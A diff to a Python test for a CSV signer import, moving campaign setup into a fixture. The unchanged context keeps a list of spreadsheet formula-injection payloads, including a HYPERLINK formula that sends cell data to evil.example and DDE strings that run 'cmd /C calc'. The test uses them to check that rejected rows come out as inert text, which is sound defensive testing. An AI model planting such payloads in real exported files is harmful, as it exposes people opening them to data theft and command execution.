@@ -10,8 +10,6 @@ from pathlib import Path
 from sqlalchemy import Engine
 
 from delivery.signers.store import import_csv
-from delivery.storage.db import transaction
-from delivery.storage.models import CampaignRow
 from tests.support.keys import TEST_KEYS
 
 NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
@@ -19,12 +17,8 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0
             "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tTAB=1+1", "＝1+1"]
 
 
-def test_rejected_rows_holding_formulas_are_written_as_inert_text(engine: Engine, tmp_path: Path) -> None:
-    with transaction(engine) as session:
-        campaign = CampaignRow(slug="test", title="Test", goal=100, created_at=NOW)
-        session.add(campaign)
-        session.flush()
-        campaign_id = campaign.id
+def test_rejected_rows_holding_formulas_are_written_as_inert_text(engine: Engine, campaign_id: int,
+                                                                  tmp_path: Path) -> None:
     source = tmp_path / "in.csv"
     with source.open("w", encoding="utf-8", newline="") as stream:
         writer = csv.writer(stream)
